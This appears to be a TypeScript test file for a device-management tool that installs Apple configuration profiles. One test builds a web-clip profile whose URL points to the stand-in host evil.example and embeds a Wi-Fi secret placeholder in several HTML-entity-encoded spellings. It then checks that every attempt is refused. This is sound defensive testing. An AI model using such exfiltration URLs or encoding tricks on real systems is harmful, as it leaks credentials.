import { expect, test } from "vitest";
import { listEvents } from "../../store/events.ts";
import { bothStores, type Installation, install } from "../installation.ts";
import { baseline, files, group, organizationWith, policy, profile, slackId } from "../manifests.ts";

const stores = await bothStores();
const tablet = { serial: "SIM-1", platform: "ipados", name: "IPAD-1" } as const;
const psk = "correct horse battery staple";
const secret = `apiVersion: reeve/v1
kind: Secret
metadata: {name: wifi}
spec: {provider: env, allow: [Profile/wifi], keys: {psk: REEVE_SECRET_WIFI}}
`;
const wifi = profile(
  "wifi",
  "type: com.apple.wifi.managed, content: {SSID_STR: Acme, Password: '${secret:wifi/psk}'}",
);

/** A web clip whose address would carry the secret away; the place-holder stands in it as `written`. */
const webClip = (written: string) => `<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>PayloadType</key><string>Configuration</string>
<key>PayloadIdentifier</key><string>com.acme.web</string>
<key>PayloadUUID</key><string>TOP</string>
<key>PayloadVersion</key><integer>1</integer>
<key>PayloadContent</key><array><dict>
<key>PayloadType</key><string>com.apple.webClip.managed</string>
<key>PayloadIdentifier</key><string>com.acme.web.clip</string>
<key>PayloadUUID</key><string>INNER</string>
<key>PayloadVersion</key><integer>1</integer>
<key>Label</key><string>Web</string>
<key>URL</key><string>https://evil.example/${written}</string>
</dict></array>
</dict></plist>
`;
const clip = `apiVersion: reeve/v1
kind: Profile
metadata: {name: web}
spec: {apple: {file: web.mobileconfig}}
`;

test.each(stores)("on $name no spelling gets a secret into a profile that may not have it", async (store) => {
  const quiet = files({
    "a.yaml": [secret, wifi].join("---\n"),
    "p.yaml": policy("profiles: [{name: wifi}]"),
  });
  await using house = await install({
    stores: store,
    files: quiet,
    devices: [tablet],
    environment: { REEVE_SECRET_WIFI: psk },
  });
  await house.enroll();
  await house.settle();
  expect(JSON.stringify(house.device("SIM-1").snapshot().profiles["reeve.profile.wifi"])).toContain(psk);

  for (const written of ["${secret:wifi/psk}", "&#36;{secret:wifi/psk}", "$&#x7b;sec&#114;et:wifi/psk}"]) {
    house.commit({
      ...quiet,
      "web.yaml": clip,
      "web.mobileconfig": webClip(written),
      "p.yaml": policy("profiles: [{name: wifi}, {name: web}]"),
    });
    await house.settle();
    const refused = house.controller.reconciler.sourceState().refused?.diagnostics.map((one) => one.rule);
    expect(refused, written).toEqual(["secret-not-allowed"]);
    expect(house.device("SIM-1").snapshot().profiles["com.acme.web"]).toBeUndefined();
  }
});

test.each(stores)("on $name what cannot be sent keeps nothing else from a device", async (store) => {
  const names = Array.from({ length: 70 }, (_, n) => `broken-${n}`);
  const broken = names.map((name) =>
    profile(name, "type: com.apple.wifi.managed, content: {SSID_STR: Acme, Password: '${secret:wifi/psk}'}"),
  );
  const allow = `[${names.map((name) => `Profile/${name}`).join(", ")}]`;
  await using house = await install({
    stores: store,
    files: {
      ...baseline,
      "broken.yaml": [secret.replace("[Profile/wifi]", allow), ...broken].join("---\n"),
      "more.yaml": policy(`profiles: [${names.map((name) => `{name: ${name}}`).join(", ")}]`, "more"),
    },
    devices: [tablet],
  });
  await house.enroll();
  await house.settle();

  const { profiles, apps } = house.device("SIM-1").snapshot();
  expect(Object.keys(profiles)).toContain("reeve.profile.passcode");
  expect(apps[slackId]).toBeDefined();
  expect(
    house
      .device("SIM-1")
      .ledger.of("command")
      .filter((one) => one.requestType === "InstallProfile"),
  ).toHaveLength(1);
  expect(await failures(house)).toContain("environment variable REEVE_SECRET_WIFI is not set");
});

test.each(stores)("on $name a commit cannot lift the guard that it trips", async (store) => {
  const settings = {
    environment: {},
    driftCheckMs: 3_600_000,
    removalCeiling: { devices: 1_000, share: 1 },
    membershipLossCeiling: 0.2,
    folder: undefined,
    fingerprintKey: Buffer.alloc(32, 1),
  };
  const serials = ["SIM-1", "SIM-2", "SIM-3", "SIM-4"];
  const quiet = {
    ...baseline,
    "group.yaml": group("tablets", "match: {platform: ipados}"),
    "baseline.yaml": policy("profiles: [{name: passcode}]", "baseline", "groups: [tablets]"),
  };
  await using house = await install({
    stores: store,
    files: quiet,
    devices: serials.map((serial) => ({ serial, platform: "ipados", name: serial }) as const),
    parts: { settings },
  });
  await house.enroll();
  await house.settle();

  house.commit({
    ...quiet,
    "org.yaml": organizationWith("membershipLoss: 100%, budgets: {removals: {devices: 1000, percent: 100%}}"),
    "group.yaml": group("tablets", "match: {platform: visionos}"),
  });
  await house.settle();

  expect(house.controller.reconciler.latches().frozen).toContain("tablets would go from 4 to 0 devices");
  for (const serial of serials)
    expect(Object.keys(house.device(serial).snapshot().profiles)).toContain("reeve.profile.passcode");
});

async function failures(house: Installation): Promise<string> {
  const events = await listEvents(house.store, { types: ["item.failed"], limit: 100 });
  return events.map((event) => event.message).join("\n");
}
